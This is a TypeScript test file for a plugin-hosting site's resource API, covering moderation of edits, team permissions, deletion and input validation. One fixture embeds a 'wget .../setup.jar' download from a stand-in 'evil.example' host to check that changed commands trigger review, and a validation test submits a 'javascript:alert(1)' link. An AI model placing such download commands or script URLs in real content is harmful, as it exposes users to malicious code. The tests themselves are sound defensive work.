import { describe, expect, test } from 'vitest'
import { aResource, aVersionOf, approveResource, resourceBody } from '../../../testing/content/resources.ts'
import { aUser } from '../../../testing/content/users.ts'
import { pressRoom } from '../../articles/api/articles.fixture.ts'
import { refreshResourceFacts } from './resource-facts.ts'
import type { Resource } from '../resource-shapes.contract.ts'

const { api, author, reader, moderator, as, pool } = await pressRoom()
type One = { data: Resource }
const read = (slug: string | number, who: { id: number } | null = null) =>
  as(who)<One>('GET', `/api/resources/${slug}?lang=ru`)

test('a resource is written, approved and public only with a public version', async () => {
  const body = resourceBody({
    slug: 'first-light',
    links: { source: 'https://example.com/code', donate: null },
    licence: { id: 'MIT' },
  })
  const made = await as(author)<One>('POST', '/api/resources', body)
  expect(made.status).toBe(201)
  expect(made.body.data).toMatchObject({
    slug: 'first-light',
    type: 'plugin',
    status: 'verified',
    public: false,
    links: { source: 'https://example.com/code', issues: null, docs: null, chat: null, donate: null },
    licence: { id: 'MIT', name: 'MIT License', text: '' },
    gallery: [],
    version_count: 0,
    abilities: { edit: true, remove: true, versions: true, manage: true, moderate: false },
    pending_revision: { number: 1, status: 'verified' },
  })
  expect((await read('first-light')).status).toBe(404)
  await approveResource(api, made.body.data.id)
  expect((await read('first-light')).status).toBe(404)
  expect((await read('first-light', author)).body.data).toMatchObject({
    status: 'approved_and_verified',
    public: false,
  })
  await aVersionOf(api, made.body.data, {
    number: '1.0',
    platforms: ['paper'],
    gameVersions: ['1.20', '1.21.4'],
  })
  const shown = await read('first-light')
  expect(shown.status).toBe(200)
  expect(shown.body.data).toMatchObject({
    public: true,
    platforms: ['paper'],
    game_versions: ['1.21.4', '1.20'],
    version_count: 1,
    latest_version: { number: '1.0', channel: 'release' },
    pending_revision: null,
    abilities: { edit: false, versions: false, team: false },
    reactions: { 0: 0, 9: 0 },
  })
  await pool.query('update versions set public = false where resource_id = $1', [made.body.data.id])
  await api.services.database.db.transaction((tx) =>
    refreshResourceFacts(tx, made.body.data.id, api.clock.now()),
  )
  expect((await read('first-light')).status).toBe(404)
})

test('the type can be changed only before anything was published or uploaded', async () => {
  const hidden = await aResource(api, { author, public: false })
  const changed = await as(author)<One>('PATCH', `/api/resources/${hidden.id}`, { type: 'mod' })
  expect(changed.body.data.type).toBe('mod')
  const shown = await aResource(api, { author })
  const refused = await as(author)('PATCH', `/api/resources/${shown.id}`, { type: 'mod' })
  expect(refused.body.error.fields.type).toMatchObject([{ key: 'type_fixed' }])
})

describe('an edit', () => {
  test('waits for review and leaves the approved text public', async () => {
    const resource = await aResource(api)
    const edited = await as(resource.authorRow)<One>('PATCH', `/api/resources/${resource.slug}`, {
      title: 'Совсем другое название',
    })
    expect(edited.body.data).toMatchObject({
      title: 'Совсем другое название',
      pending_revision: { number: 2, status: 'verified' },
    })
    expect((await read(resource.slug)).body.data).toMatchObject({
      title: resource.title,
      pending_revision: null,
    })
    await approveResource(api, resource.id)
    expect((await read(resource.slug)).body.data.title).toBe('Совсем другое название')
  })

  test('of a new link or icon is never trivial, a shorter text may be', async () => {
    const resource = await aResource(api, { links: { chat: 'https://example.com/chat' } })
    const path = `/api/resources/${resource.id}`
    const linked = await as(resource.authorRow)<One>('PATCH', path, {
      links: { source: 'https://example.org/x' },
    })
    expect(linked.body.data.pending_revision).toMatchObject({ status: 'verified' })
    await approveResource(api, resource.id)
    expect((await read(resource.id)).body.data.links).toMatchObject({
      source: 'https://example.org/x',
      chat: null,
    })
    const fewer = await as(resource.authorRow)<One>('PATCH', path, { links: {} })
    expect(fewer.body.data).toMatchObject({ pending_revision: null, status: 'approved_and_verified' })
  })

  test('of a command, or of which link is which, is never trivial', async () => {
    const text = 'длинный рассказ о плагине '.repeat(100)
    const content = (host: string) => `\`wget ${host}/setup.jar\`\n\n${text}`
    const links = { source: 'https://example.com/a', donate: 'https://example.org/b' }
    const resource = await aResource(api, { content: content('good.example'), links })
    const path = `/api/resources/${resource.id}`
    const pending = async (change: object) => {
      const edited = await as(resource.authorRow)<One>('PATCH', path, change)
      return edited.body.data.pending_revision !== null
    }
    expect(await pending({ links: { source: links.donate, donate: links.source } })).toBe(true)
    expect(await pending({ links, content: content('evil.example') })).toBe(true)
    expect(await pending({ links, content: `${content('good.example')} Конец.` })).toBe(false)
  })

  test('is refused to strangers, to staff and to those without a login', async () => {
    const resource = await aResource(api, { author })
    const patch = (who: { id: number } | null) =>
      as(who)('PATCH', `/api/resources/${resource.slug}`, { title: 'Чужое название' })
    expect((await patch(null)).status).toBe(401)
    expect((await patch(reader)).status).toBe(403)
    expect((await patch(moderator)).status).toBe(403)
    const hidden = await aResource(api, { author, public: false })
    expect((await as(reader)('PATCH', `/api/resources/${hidden.slug}`, { title: 'Чужое' })).status).toBe(404)
  })

  test('of an older text than the newest is refused', async () => {
    const resource = await aResource(api, { author })
    const path = `/api/resources/${resource.id}`
    await as(author)('PATCH', path, { title: 'Вторая редакция' })
    const late = await as(author)('PATCH', path, {
      title: 'Третья редакция',
      base_revision_id: resource.revision_id,
    })
    expect(late.body.error.key).toBe('editConflict')
  })
})

describe('the team', () => {
  test('looks after the talk where it may', async () => {
    const resource = await aResource(api)
    const helper = await aUser(api)
    const said = await as(reader)<{ data: { id: number } }>(
      'POST',
      `/api/resources/${resource.id}/comments`,
      {
        content: 'Закрепите это, пожалуйста.',
      },
    )
    const pin = () => as(helper)('PATCH', `/api/comments/${said.body.data.id}`, { pinned: true })
    expect((await pin()).status).toBe(403)
    await pool.query('update resources set team = $2 where id = $1', [
      resource.id,
      JSON.stringify({ [helper.id]: ['comments'] }),
    ])
    expect((await pin()).status).toBe(200)
  })

  test('does what it was allowed to, and no more', async () => {
    const resource = await aResource(api, { author })
    const helper = await aUser(api)
    const patch = (body: object) => as(helper)('PATCH', `/api/resources/${resource.id}`, body)
    expect((await patch({ title: 'Помощник пишет' })).status).toBe(403)
    await pool.query('update resources set team = $2 where id = $1', [
      resource.id,
      JSON.stringify({ [helper.id]: ['text'] }),
    ])
    expect((await patch({ title: 'Помощник пишет' })).status).toBe(200)
    expect((await patch({ slug: 'not-theirs' })).status).toBe(403)
    expect((await as(helper)('DELETE', `/api/resources/${resource.id}`)).status).toBe(403)
    expect((await read(resource.id, helper)).body.data.abilities).toMatchObject({
      edit: true,
      versions: false,
      manage: false,
      remove: false,
    })
  })
})

test('deleting is for the author, and ends everything but the slug for a month', async () => {
  const resource = await aResource(api, { author })
  const remove = (who: { id: number } | null) => as(who)('DELETE', `/api/resources/${resource.slug}`)
  expect((await remove(null)).status).toBe(401)
  expect((await remove(reader)).status).toBe(403)
  expect((await remove(author)).status).toBe(204)
  expect((await remove(author)).status).toBe(404)
  expect((await read(resource.slug, author)).status).toBe(404)
  const again = resourceBody({ slug: resource.slug })
  expect((await as(reader)('POST', '/api/resources', again)).status).toBe(409)
})

test('only who is approved and verified writes resources', async () => {
  expect((await as(null)('POST', '/api/resources', resourceBody())).status).toBe(401)
  const newcomer = await aUser(api, { status: 'verified' })
  expect((await as(newcomer)('POST', '/api/resources', resourceBody())).status).toBe(403)
})

test('all faults are told at once', async () => {
  const answer = await as(author)('POST', '/api/resources', {
    type: 'sandwich',
    title: 'ab',
    slug: 'stats',
    description: 'short',
    content: 'too little',
    language: 'xx',
    categories: [],
    tags: ['1'],
    links: { source: 'http://example.com', issues: 'javascript:alert(1)' },
    licence: { id: 'MIT', text: 'and more' },
    gallery: [{ id: 1 }, { id: 1 }],
    surplus: true,
  })
  expect(answer.status).toBe(422)
  expect(Object.keys(answer.body.error.fields).sort()).toEqual(
    [
      'categories',
      'content',
      'description',
      'gallery',
      'language',
      'licence',
      'links.issues',
      'links.source',
      'slug',
      'surplus',
      'tags.0',
      'title',
      'type',
    ].sort(),
  )
})

test('figures count what is listed', async () => {
  const before = await as(null)<{ data: { total: number } }>('GET', '/api/resources/stats')
  await aResource(api, { author, type: 'map' })
  api.clock.forward(60_000)
  const after = await as(null)<{ data: { total: number; types: { type: string; count: number }[] } }>(
    'GET',
    '/api/resources/stats',
  )
  expect(after.body.data.total).toBe(before.body.data.total + 1)
  expect(after.body.data.types).toHaveLength(10)
  expect(after.body.data.types.find(({ type }) => type === 'map')).toMatchObject({ count: 1 })
})
